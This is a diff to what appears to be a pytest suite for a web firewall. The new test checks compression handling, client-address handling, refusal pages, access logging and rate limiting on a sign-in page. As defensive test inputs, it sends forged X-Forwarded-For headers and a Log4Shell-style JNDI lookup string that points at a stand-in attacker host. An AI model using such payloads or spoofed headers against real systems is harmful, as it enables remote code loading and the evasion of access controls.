@@ -2,14 +2,17 @@
 
 import gzip
 import http.client
+import json
 from collections.abc import Callable
 from typing import Any
 
 import pytest
+from django.core.signals import request_started
 
 from tests.access.pages import every_page, path_of
 from tests.access_walk import Hers
 from tests.compressed import EVERYBODYS, VISITORS
+from tests.firewall.conftest import readable_folder, running, spare_port
 from tests.firewall.visitor import Firewall, Visitor
 
 ASKED = {"Accept-Encoding": "gzip, br, deflate, identity;q=0.5"}
@@ -113,3 +116,35 @@ def test_nor_an_answer_to_a_form_nor_what_the_firewall_says_itself(firewall: Fir
     ):
         _, answered, _ = raw(firewall, path, method=method, **headers)
         assert "content-encoding" not in answered, (method, path)
+
+
+def test_the_door_does_the_same_for_what_is_compressed(
+    visitor: Callable[..., Visitor], firewall: Firewall, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """The rules, the client's address, the pages of refusals, the access log and what floods are kept to."""
+    seen: list[dict[str, str]] = []
+
+    def note(environ: dict[str, Any], **kwargs: Any) -> None:
+        seen.append(environ)
+
+    request_started.connect(note)
+    try:
+        forged = {"X-Forwarded-For": "203.0.113.9", "X-Real-IP": "203.0.113.9"} | ASKED
+        assert visitor(address="127.0.0.2").get("/sign-in/", **forged).headers["Content-Encoding"] == "gzip"
+    finally:
+        request_started.disconnect(note)
+    assert [(each["HTTP_X_FORWARDED_FOR"], each.get("HTTP_X_REAL_IP", "")) for each in seen] == [("127.0.0.2", "")]
+    refused = visitor().get("/sign-in/", **{"X-Note": "${jndi:ldap://evil.example}"})
+    assert (refused.is_refusal, refused.status) == (True, 403)
+    assert "We did not let this through" in refused.text
+    lines = [json.loads(line) for line in firewall.logs()["access.log"].splitlines()]
+    assert {("/sign-in/", "200", "bank"), ("/sign-in/", "403", "rules")} <= {
+        (line["path"], line["status"], line["answered_by"]) for line in lines
+    }
+    nobody = f"127.0.0.1:{spare_port()}"
+    with running(readable_folder(tmp_path_factory), nobody, FIREWALL_REQUESTS_PER_SECOND="1") as slow:
+        stranger = Visitor(slow.port, [])
+        answers = [stranger.get("/sign-in/") for _ in range(260)]
+        assert {answer.status for answer in answers[:200]} == {502}
+        assert "does not answer just now" in answers[0].text
+        assert 429 in {answer.status for answer in answers}
